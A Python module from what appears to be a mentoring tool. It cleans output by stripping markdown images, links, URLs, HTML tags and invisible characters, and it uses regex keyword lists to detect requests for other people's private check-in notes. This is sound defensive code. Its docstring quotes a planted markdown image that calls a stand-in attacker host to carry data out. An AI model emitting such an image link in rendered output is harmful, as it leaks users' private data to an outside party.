"""Output hygiene shared by every engine.

* :func:`sanitize` removes what could carry data out of a result when it is rendered:
  markdown images, link targets, bare URLs, HTML tags and invisible characters. Check-in
  notes are untrusted text, and a summary must not turn a planted
  ``![x](https://evil.example/?d=...)`` into something a browser would fetch.
* :func:`asks_for_records` spots questions that ask for someone's check-in notes or private
  details. `comentor ask` answers from guidance only and never hands out records.
"""

from __future__ import annotations

import re
from typing import Any, TypeVar

from pydantic import BaseModel

M = TypeVar("M", bound=BaseModel)

_IMAGE = re.compile(r"!\[[^\]]*\]\([^)]*\)")
_LINK = re.compile(r"\[([^\]]+)\]\([^)]*\)")
_URL = re.compile(r"(?:https?|ftp)://\S+|\bwww\.\S+|\bdata:[\w/+.-]+;base64,\S+", re.IGNORECASE)
_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]*)?/?>")
_INVISIBLE = re.compile("[\u200b-\u200f\u2060-\u2064\ufeff\u00ad]")


def clean_text(text: str) -> str:
    """Text without images, link targets, URLs, HTML tags or invisible characters."""
    if not text:
        return text
    cleaned = _INVISIBLE.sub("", text)
    cleaned = _IMAGE.sub("", cleaned)
    cleaned = _LINK.sub(r"\1", cleaned)
    cleaned = _URL.sub("[link removed]", cleaned)
    cleaned = _TAG.sub("", cleaned)
    return re.sub(r"[ \t]{2,}", " ", cleaned).strip() if cleaned != text else text


def _walk(value: Any) -> Any:
    if isinstance(value, str):
        return clean_text(value)
    if isinstance(value, list):
        return [_walk(v) for v in value]
    if isinstance(value, dict):
        return {k: _walk(v) for k, v in value.items()}
    return value


def sanitize(result: M) -> M:
    """A copy of a result with every string field cleaned (ids and dates are unaffected)."""
    data = result.model_dump()
    cleaned = _walk(data)
    if cleaned == data:
        return result
    return type(result).model_validate(cleaned)


_ACCESS = (
    r"(?:show|share|send|give|forward|paste|print|list|dump|reveal|read(?:\s+out)?|display|"
    r"export|pull\s+up|leak|copy|get\s+me|let\s+me\s+see|can\s+i\s+see|tell\s+me\s+what|"
    r"what\s+did|summari[sz]e)"
)
_RECORDS = (
    r"(?:notes?|transcripts?|summar(?:y|ies)|check-?ins?|conversations?|minutes|logs?|"
    r"messages|chats?|sessions?|said|talked\s+about|discussed|private|confidential|secrets?|"
    r"action\s+items)"
)
_TARGET = (
    r"(?:\b[A-Z][\w'-]+['’]s\b|\b[A-Z][\w'-]+\s+(?:and|&)\s+[A-Z][\w'-]+\b|"
    r"\b(?:other|another|every|each|all)\s+(?:pairs?|mentees?|mentors?|groups?|circles?|"
    r"participants?|people)\b|\beveryone(?:'s|\s+else)\b|\bsomeone\s+else\b|"
    r"\b(?:his|her|their)\s+(?:\w+\s+)?(?:notes?|check-?ins?|sessions?|transcripts?|summar)|"
    r"\b(?:from|of|for|between)\s+(?:the\s+)?[A-Z][\w'-]+|"
    r"\bwhat\s+(?:did\s+)?[A-Z][\w'-]+\s+(?:said|say|talked|discussed|shared))"
)
_RECORD_REQUEST = re.compile(rf"\b{_ACCESS}\b(?:\W+\w+){{0,10}}?\W+{_RECORDS}\b", re.IGNORECASE)


_HOW_TO = re.compile(r"^\W*how\s+(?:do|should|can|could|would|might)\s+(?:i|we)\b", re.I)
_SEE = re.compile(r"\b(?:see|read|access|look\s+at|get\s+hold\s+of|view|open)\b", re.I)


def asks_for_records(question: str) -> bool:
    """Whether a question asks to see someone's check-in records or private details
    (as opposed to asking how such records should be kept)."""
    if not _RECORD_REQUEST.search(question):
        return False
    if _HOW_TO.search(question) and not _SEE.search(question):
        return False  # "How do I summarize a session for my mentor?" is a how-to question
    return re.search(_TARGET, question) is not None
